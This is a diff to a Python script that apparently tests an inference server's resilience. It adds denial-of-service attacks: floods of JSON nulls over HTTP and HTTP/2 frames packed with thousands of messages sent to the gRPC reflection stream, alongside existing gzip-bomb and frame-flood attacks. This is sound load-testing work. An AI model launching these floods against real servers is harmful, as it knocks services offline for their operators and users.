@@ -17,6 +17,7 @@ from hpack import Encoder
 
 MODEL = "m"
 INFER = f"/v2/models/{MODEL}/infer"
+CALL = "/inference.GRPCInferenceService/ModelInfer"
 MEGABYTE = 1 << 20
 LARGE = 15 * MEGABYTE
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + struct.pack(">IBI", 4, 0, 0)
@@ -141,6 +142,12 @@ def lists(port: int, until: float) -> None:
     _each(port, until, _post(_listing(b"[" + b"[]," * 4_500_000 + b"[]]", 4_500_001)))
 
 
+def nulls(port: int, until: float) -> None:
+    """Long lists that are read value by value, rightly asked."""
+    rows = 90_000
+    _each(port, until, _post(_listing(b"[%s]" % b",".join([b"null"] * (rows * 30)), rows)))
+
+
 def bomb(port: int, until: float) -> None:
     """Little gzip that is much JSON."""
     packed = gzip.compress(_listing(b"[" + b"[]," * 4_500_000 + b"[]]", 4_500_001))
@@ -158,9 +165,11 @@ def _frame(kind: int, flags: int, stream: int, content: bytes = b"") -> bytes:
     return struct.pack(">IBI", len(content) << 8 | kind, flags, stream) + content
 
 
-def _head(encoder: Encoder, stream: int, *more: tuple[str, str], flags: int = 4) -> bytes:
+def _head(
+    encoder: Encoder, stream: int, *more: tuple[str, str], flags: int = 4, path: str = CALL
+) -> bytes:
     fields = [(":method", "POST"), (":scheme", "http"), (":authority", "a")]
-    fields += [(":path", "/inference.GRPCInferenceService/ModelInfer"), ("te", "trailers")]
+    fields += [(":path", path), ("te", "trailers")]
     fields += [("content-type", "application/grpc"), *more]
     return _frame(HEADERS, flags, stream, encoder.encode(fields))
 
@@ -169,6 +178,13 @@ def ended_streams(port: int, until: float) -> None:
     """Data for calls that are over."""
     call = _head(Encoder(), 1, ("content-length", "x"))
     _flood(port, until, PREFACE + call, _frame(DATA, 0, 1, b"x") * 5000)
+
+
+def questions(port: int, until: float) -> None:
+    """Thousands of messages in each frame of a streamed call."""
+    path = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
+    head = _head(Encoder(), 1, path=path)
+    _flood(port, until, PREFACE + head, _frame(DATA, 0, 1, bytes(5) * 3000))
 
 
 def pings(port: int, until: float) -> None:
@@ -236,11 +252,12 @@ OVER_HTTP: dict[str, Attack] = {
     a.__name__: a
     for a in (
         *(pipelined, new_heads, tiny_chunks, trailer, unfinished, half_heads),
-        *(refused, lists, bomb, unread),
+        *(refused, lists, nulls, bomb, unread),
     )
 }
 OVER_GRPC: dict[str, Attack] = {
-    a.__name__: a for a in (ended_streams, pings, windows, empty_calls, grpc_bomb, half_frames)
+    a.__name__: a
+    for a in (ended_streams, questions, pings, windows, empty_calls, grpc_bomb, half_frames)
 }
 
 if __name__ == "__main__":
